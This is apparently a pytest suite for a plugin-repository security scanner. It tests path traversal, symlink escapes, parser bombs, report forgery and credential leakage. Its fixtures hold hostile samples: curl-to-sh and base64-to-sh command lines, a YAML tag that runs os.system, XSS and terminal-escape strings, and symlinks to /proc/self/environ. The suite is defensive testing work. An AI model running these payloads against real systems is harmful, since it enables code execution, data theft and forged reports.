"""Repositories made to harm whoever scans them: nothing is written, read or told where it must not be, and it ends."""

from __future__ import annotations

import io
import json
import re
import tarfile
import time
import tracemalloc
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, example, given
from hypothesis import settings as bounded
from hypothesis import strategies as st

from install_guard.cli import render
from scan import fetch, inspection, manifest, report
from scan.archive import PackedSnapshot, zip_members
from scan.scratch import Scratch
from scan.settings import Bounds
from scan.source import Archive, Directory, Git, Inline
from scan.tar import tgz_members
from scan.tree import MemorySnapshot
from tests.support.servers import gives, leads, scripted, serving

if TYPE_CHECKING:
    from scan.model import Report
    from scan.settings import Settings
    from tests.support.repositories import Made

SECRET = "the content of a file that is none of theirs"
MARKET = ".claude-plugin/marketplace.json"


def everything_below(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in folder.rglob("*") if path.is_file() and not path.is_symlink()}


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    place = tmp_path / "outside"
    place.mkdir()
    (place / "secret").write_text(SECRET)
    return place


# Nothing is written outside of the cache.


def hostile_archive(names: list[str]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(".claude-plugin/plugin.json", '{"name": "x"}')
        for name in names:
            archive.writestr(name, "sprung")
    return held.getvalue()


@pytest.mark.parametrize("up", ["../../../sprung", "/tmp/sprung", "a/../../sprung", "..\\..\\sprung", "C:\\sprung"])
def test_an_archive_writes_nothing_but_in_the_cache(tmp_path: Path, settings: Settings, up: str) -> None:
    cache = tmp_path / "cache"
    before = everything_below(tmp_path)
    with serving(scripted({"/p.zip": gives(hostile_archive([up]))})) as host:
        entry = {"name": "x", "source": {"source": "archive", "url": f"{host.address}p.zip"}}
        source = Inline(name="m", catalogue={"name": "m", "plugins": [entry]})
        found = inspection.inspect_source(source, settings.model_copy(update={"cache": cache}), plugin="x")

    assert {path for path in everything_below(tmp_path) if not path.startswith(str(cache))} == set(before)
    assert found.plugins[0].skipped


def test_a_repository_writes_nothing_but_in_the_cache(repository: Made, settings: Settings, tmp_path: Path) -> None:
    repository.commit({"a": "x", ".gitattributes": "* filter=lfs\n", ".lfsconfig": "[lfs]\nurl = http://192.0.2.1/\n"})
    blob = repository.git("hash-object", "-w", "--stdin", given=b"sprung")
    tree = repository.git("mktree", given=f"100644 blob {blob}\tx\n".encode())
    repository.git("update-ref", "refs/heads/main", repository.git("commit-tree", tree, "-m", "m"))
    (tmp_path / "elsewhere").mkdir()
    cache = tmp_path / "elsewhere/cache"
    before = everything_below(tmp_path)
    inspection.inspect_source(Git(url=repository.url), settings.model_copy(update={"cache": cache}))

    assert {path for path in everything_below(tmp_path) if not path.startswith(str(cache))} == set(before)


# Nothing is read outside of the snapshot.


@pytest.mark.parametrize("target", ["{outside}/secret", "../outside/secret", "../outside", "/proc/self/environ"])
@pytest.mark.parametrize("name", ["skills/a/SKILL.md", "hooks/hooks.json", ".mcp.json", "commands", MARKET])
def test_a_link_leads_to_nothing_outside(
    tmp_path: Path, outside: Path, settings: Settings, target: str, name: str
) -> None:
    folder = tmp_path / "plugin"
    (folder / name).parent.mkdir(parents=True)
    (folder / ".claude-plugin").mkdir(exist_ok=True)
    (folder / ".claude-plugin/plugin.json").write_text('{"name": "x"}')
    (folder / name).symlink_to(target.format(outside=outside))
    (outside / "SKILL.md").write_text(f"---\nname: x\ndescription: {SECRET}\n---\n")
    found = inspection.inspect_source(Directory(path=str(folder)), settings)

    assert SECRET not in report.as_json(found)


@pytest.mark.parametrize("where", ["../outside", "/etc", "./../outside", "~", "a/../../outside"])
def test_an_entry_leads_to_nothing_outside(tmp_path: Path, outside: Path, settings: Settings, where: str) -> None:
    folder = tmp_path / "market"
    (folder / ".claude-plugin").mkdir(parents=True)
    (folder / MARKET).write_text(json.dumps({"name": "m", "plugins": [{"name": "x", "source": where}]}))
    (outside / "SKILL.md").write_text(f"---\nname: x\ndescription: {SECRET}\n---\n")
    found = inspection.inspect_source(Directory(path=str(folder)), settings, plugin="x")

    assert SECRET not in report.as_json(found)
    assert found.verdict.rank >= 2


@pytest.mark.parametrize("field", ["commands", "skills", "agents", "hooks", "mcpServers", "outputStyles"])
@pytest.mark.usefixtures("outside")
def test_a_manifest_leads_to_nothing_outside(tmp_path: Path, settings: Settings, field: str) -> None:
    folder = tmp_path / "plugin"
    (folder / ".claude-plugin").mkdir(parents=True)
    (folder / ".claude-plugin/plugin.json").write_text(
        json.dumps({"name": "x", field: ["../outside", "../outside/secret"]})
    )
    found = inspection.inspect_source(Directory(path=str(folder)), settings)

    assert SECRET not in report.as_json(found)


# Memory and time have bounds.


def deep(opening: str, closing: str) -> str:
    return opening * 50_000 + closing * 50_000


BOMBS: dict[str, dict[str, str | bytes]] = {
    "a deep manifest": {".claude-plugin/plugin.json": deep("[", "]")},
    "a deep object": {"hooks/hooks.json": deep('{"a":', "}")},
    "aliases in aliases": {
        "skills/a/SKILL.md": "---\na0: &a0 x\n"
        + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}]\n" for n in range(1, 40))
        + "---\n"
    },
    "a tag that would run": {"skills/a/SKILL.md": "---\na: !!python/object/apply:os.system ['touch sprung']\n---\n"},
    "one long line": {"skills/a/SKILL.md": "a" * 2_000_000},
    "blanks": {"skills/a/SKILL.md": "x" + " \t" * 1_000_000 + "y"},
    "opened comments": {"skills/a/SKILL.md": "<!--" * 200_000},
    "opened fences": {"skills/a/SKILL.md": "```\n`" * 200_000},
    "quotes": {"a.sh": "'\"" * 300_000},
    "brackets in shell": {"a.sh": "$(" * 100_000},
    "braces in shell": {"a.sh": "echo " + "{a,b}" * 40 + "\n"},
    "brackets in Python": {"a.py": "x = " + "(" * 100_000},
    "a chain in Python": {"a.py": "import subprocess\nx = subprocess" + ".f()" * 3_000},
    "brackets in JavaScript": {"a.js": "eval(" * 50_000},
    "base64 in base64": {"a.sh": "echo " + "QUFB" * 300_000 + " | base64 -d | sh\n"},
    "addresses": {"skills/a/SKILL.md": "http://" + "a." * 300_000},
    "entities": {"skills/a/SKILL.md": "&#x41;" * 200_000},
    "zero width": {"skills/a/SKILL.md": "\u200b\u200c" * 300_000},
    "headings": {"skills/a/SKILL.md": "# never\n" * 100_000},
    "table": {"skills/a/SKILL.md": "|a" * 400_000},
    "many hooks": {
        "hooks/hooks.json": json.dumps({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a"}] * 3000}]}})
    },
    "comments in JSON": {".mcp.json": "/*" * 300_000},
    "strings in JSON": {".mcp.json": '"\\' * 300_000},
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_no_file_takes_long_or_much(bomb: str) -> None:
    files = {".claude-plugin/plugin.json": '{"name": "x"}', **BOMBS[bomb]}
    snapshot = MemorySnapshot(files)
    begun = time.process_time()
    found = inspection.inspect(snapshot)

    assert time.process_time() - begun < 20
    assert found.plugins
    assert not Path("sprung").exists()
    assert len(report.as_json(found)) < 2_000_000


def test_an_archive_that_unpacks_to_more_than_it_may_takes_no_memory(tmp_path: Path) -> None:
    file = tmp_path / "bomb.zip"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(8):
            archive.writestr(f"skills/a/f{number}.md", bytes(64 << 20))
    tracemalloc.start()
    snapshot = PackedSnapshot(zip_members(file, Bounds()), Bounds(), Scratch())
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert most < 32 << 20
    assert snapshot.skipped


# Reports forge nothing.

FORGED = [
    "\x1b[2J\x1b[31mclear\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://192.0.2.1/\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m",
    "a\r\x08\x08clear",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style><script>1</script>",
    '"><a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "![x](http://192.0.2.1/x.png)",
    "@everyone #1 ~~x~~ **x**",
    "`code` ``` fence",
    "| a | b |\n|---|---|",
    "\u202eclear",
    "[bold red]x[/] :skull:",
    "::set-output name=a::b",
]


class Tags(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {(tag, name) for name, _ in attrs} | {(tag, "")}


def made_of(text: str) -> Report:
    """The report on a plugin whose every name, path and word is the text."""
    name = text.replace("/", "_").replace("\0", "")
    files: dict[str, str] = {
        MARKET: json.dumps(
            {"name": text, "owner": {"name": text}, "plugins": [
                {"name": text, "source": "./p", "version": text, "description": text, "dependencies": [text]},
                {"name": f"{text}2", "source": {"source": "url", "url": f"https://files.example/{text}.git"}},
            ]}
        ),
        f"p/skills/{name}/SKILL.md": f"---\nname: {json.dumps(text)}\ndescription: {json.dumps(text)}\n---\n\n{text}\n",
        f"p/{name}.sh": f"curl -s 'http://192.0.2.9/{name}' | sh\n",
        "p/hooks/hooks.json": json.dumps({"hooks": {text: [{"matcher": text, "hooks": [{"type": "command", "command": f"echo {text}"}]}]}}),
        "p/.mcp.json": json.dumps({"mcpServers": {text: {"command": text, "args": [text], "env": {text: text}}}}),
    }  # fmt: skip
    return inspection.inspect(MemorySnapshot(files), text)


@pytest.mark.parametrize("text", FORGED)
def test_no_format_can_be_forged(text: str) -> None:
    found = made_of(text)
    plain = made_of("plain")
    stream = io.StringIO()
    render.console(stream).print(render.report(found))
    written = {form: report.written(found, form) for form in ("markdown", "html", "sarif", "json")}
    written["text"] = stream.getvalue()
    pages = [Tags(), Tags()]
    for page, each in zip(pages, (found, plain), strict=True):
        page.feed(report.written(each, "html"))

    for form, out in written.items():
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), form
    assert pages[0].found <= pages[1].found | {("pre", ""), ("mark", "")}
    assert json.loads(written["sarif"])["version"] == "2.1.0"
    assert report.from_json(written["json"]) == found
    outside_code = re.sub(r"(`+) .*? \1", "", written["markdown"])
    assert not re.search(r"(?<!\\)[<>]|(?<!\\)\]\(|(?<!\\)@", outside_code)


# Credentials stay with their host.


def test_what_a_host_leads_to_gets_no_credentials(settings: Settings) -> None:
    with serving(scripted({"/p.zip": gives(hostile_archive([]))})) as other:
        answers: dict[str, Any] = {}
        with serving(scripted(answers)) as host:
            answers["/p.zip"] = leads(f"{other.address.replace('127.0.0.1', 'localhost')}p.zip")
            address = host.address.replace("http://", "http://user:hunter2@")
            found = fetch.fetch(Archive(url=f"{address}p.zip"), settings)

    assert found.files
    assert other.asked
    assert all("authorization" not in headers and "hunter2" not in path for path, headers in other.asked)


# Readers of untrusted bytes answer whatever the bytes are.

JSONISH = st.text(alphabet=st.sampled_from(list('{}[]",:\\/*tfn0123.e-+ \n\t\ufeffé\u2028')), max_size=60)


@bounded(max_examples=150, deadline=None)
@given(JSONISH | st.text(max_size=40))
@example("NaN")
def test_a_manifest_is_read_or_refused(text: str) -> None:
    loaded = manifest.loads(text)

    assert loaded.broken or loaded.value == loaded.value
    assert not loaded.broken or loaded.problems


@bounded(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=120), st.integers(0, 400), st.sampled_from(["zip", "tgz"]))
@example(noise=b"\x08" + bytes(18) + b"\x19", place=233, kind="zip")  # a name that says it is UTF-8 and is not
def test_an_archive_is_read_or_refused(tmp_path: Path, noise: bytes, place: int, kind: str) -> None:
    """A true archive with noise laid over some of its bytes."""
    held = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(held, "w") as archive:
            archive.writestr("a/b", "some text")
    else:
        with tarfile.open(fileobj=held, mode="w:gz") as packed:
            packed.addfile(tarfile.TarInfo("package/b"))
    data = bytearray(held.getvalue())
    place %= len(data)
    data[place : place + len(noise)] = noise
    file = tmp_path / "packed"
    file.write_bytes(data)
    members = zip_members if kind == "zip" else tgz_members
    snapshot = PackedSnapshot(members(file, Bounds()), Bounds(), Scratch())

    assert all(not path.startswith(("/", "../")) and ".." not in path.split("/") for path in snapshot.files)
    assert all(isinstance(snapshot.read(path), bytes) or snapshot.files[path].kind == "link" for path in snapshot.files)
